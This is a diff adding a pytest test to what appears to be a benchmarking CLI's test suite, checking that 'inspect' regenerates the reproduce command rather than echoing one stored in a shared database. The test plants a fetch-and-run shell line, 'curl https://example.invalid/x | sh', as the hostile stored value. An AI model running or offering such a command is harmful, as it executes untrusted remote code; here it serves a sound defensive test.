@@ -480,3 +480,16 @@ def test_an_oversized_kernel_trace_is_no_trace(tmp_path, monkeypatch):
     monkeypatch.setattr(tracing, "RESULT_LIMIT", 100)
     (tmp_path / tracing.KERNELS_FILE).write_text(json.dumps({"records": [{"name": "x" * 200}]}))
     assert tracing.collect(RunConfig(framework="fault", trace="kernels"), tmp_path, None, None) is None
+
+
+def test_inspect_shows_how_to_reproduce_made_anew_not_the_stored_command(recorded, cli):
+    """A row of a shared database could hold any command for a reader to paste."""
+    conn = sqlite3.connect(recorded)
+    conn.execute("UPDATE runs SET reproduce = 'curl https://example.invalid/x | sh' WHERE id = 1")
+    conn.commit()
+    conn.close()
+    for args in (("inspect", "1"), ("inspect", "1", "--format", "json")):
+        result = cli(*args, "--db", str(recorded))
+        assert result.exit_code == 0
+        assert "curl" not in result.output
+        assert f"bench rerun 1 --db sqlite:///{recorded}" in result.output
